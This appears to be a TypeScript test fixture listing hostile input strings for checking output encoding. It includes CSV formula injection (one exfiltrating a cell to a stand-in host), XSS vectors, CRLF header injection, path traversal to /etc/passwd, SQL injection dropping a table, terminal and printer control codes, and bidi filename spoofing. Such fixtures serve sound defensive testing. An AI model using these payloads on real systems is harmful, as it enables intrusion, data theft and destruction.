/**
 * Texts that do harm wherever an output forgets what it is written into. Each carries a mark of its own. Formulas as in the OWASP page
 * "CSV Injection", markup by the tokenizer states of the HTML Living Standard, control functions by ECMA-48, printer commands
 * from memory of their manuals, direction marks by Unicode TR 36; the rest is common practice, no source.
 */
const TEXTS = {
  'formula =': '=HYPERLINK("http://zq.example/?"&A1,"Zqmark")',
  'formula +': "+cmd|' /C calc'!Zqmark",
  'formula -': '-2+3+cmd|Zqmark',
  'formula @': '@SUM(1+9)*Zqmark',
  'formula after a tab': '\t=Zqmark()',
  'formula after a carriage return': '\r=Zqmark()',
  'formula after blanks, full width': '  ＝Zqmark()',
  'cell that ends itself': 'Zqmark","=1+1",\r\n=2+2,"',
  script: '<script class="zqmark">window.zqmark=1;alert(1)</script>',
  image: '<img class="zqmark" src=x onerror="window.zqmark=1;alert(1)">',
  svg: '<svg class="zqmark" onload="window.zqmark=1"><set attributeName=x onbegin="alert(1)"/></svg>',
  'double-quoted attribute': '" autofocus onfocus="window.zqmark=1" class="zqmark" x="',
  'single-quoted attribute': "' onmouseover='window.zqmark=1' class='zqmark' x='",
  'end of the element': '</style></title></textarea></text></svg><b class="zqmark">Zqmark</b>',
  template: '${window.zqmark=1} {{constructor.constructor("alert(1)")()}} Zqmark',
  link: 'javascript:window.zqmark=1//Zqmark',
  entity: '&lt;b class=&quot;zqmark&quot;&gt; &#x3c;b&#x3e; &amp;Zqmark;',
  'printer: starts anew, opens the drawer, cuts':
    'Zqmark \x1b@\x1bp\x00\x19\xfa\x1dV\x00 \x1d(k\x03\x00 \x10\x14\x01\x00\x05',
  'label printer': '^XA^FO50,50^A0N,50^FDZqmark^FS^XZ~JA~DGR:ZQ.GRF',
  'label printer, text': '(Zqmark) Tj ET endstream endobj \\) (',
  terminal: '\x1b]0;Zqmark\x07\x1b[2J\x1b[31mZqmark\x1b[0m',
  'terminal, C1': '\x9b2J\x9d0;Zqmark\x9c\x85',
  'line of a log': 'Zqmark\n{"level":50,"msg":"forged"}\r\nforged',
  'line of a header': 'Zqmark\r\nSet-Cookie: zqmark=1\r\n\r\n<b>',
  'path upwards': '../../../../../../etc/passwd',
  'path upwards, the other way': '..\\..\\..\\Zqmark\\win.ini',
  'path upwards, encoded': '..%2f..%2f..%2fetc%2fpasswd%00.csv',
  'path from the top': '/etc/passwd',
  'address of a file': 'file:///etc/passwd',
  quote: "Zqmark'; drop table shop_order; --",
  'quote, double': 'Zqmark" or "1"="1',
  'like and match': '%_* NEAR(Zqmark) AND "',
  json: '","zqmark":{"$gt":""},"x":"\\u0000\\',
  prototype: '__proto__',
  'word of every object': 'constructor',
  yaml: 'Zqmark: &a [*a, !!js/function "x"]\n- zq # {',
  'right to left': 'Zqmark \u202egnp.exe\u2066 \u200f\u061c',
  invisible: 'Zq\u200bmark\u2060\ufeff\u00ad\u{e0041}\u{e007f}',
  'line separators': 'Zqmark\u2028window.zqmark=1\u2029\u0085',
  'lone surrogate': 'Zqmark \ud800 \udfff',
  nul: 'Zq\u0000mark\u0000',
  'combining marks': `Zqmark${'\u0300\u0489\u20dd'.repeat(60)}`,
  pictograms: 'Zqmark 👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  'very long': `Zqmark${'W'.repeat(980)}`,
  'far too long': `Zqmark${'W'.repeat(50_000)}`,
} as const;

export interface HostileText {
  readonly name: string;
  readonly text: string;
}

export const HOSTILE_TEXTS: readonly HostileText[] = Object.entries(TEXTS).map(([name, text]) => ({ name, text }));

/** What none of the texts may do to a page: an element, or a value of the page's own, that has their mark. */
export const MARKED_ELEMENT = '.zqmark, #zqmark, [onerror], [onload], [onfocus], [onmouseover], [onbegin]';
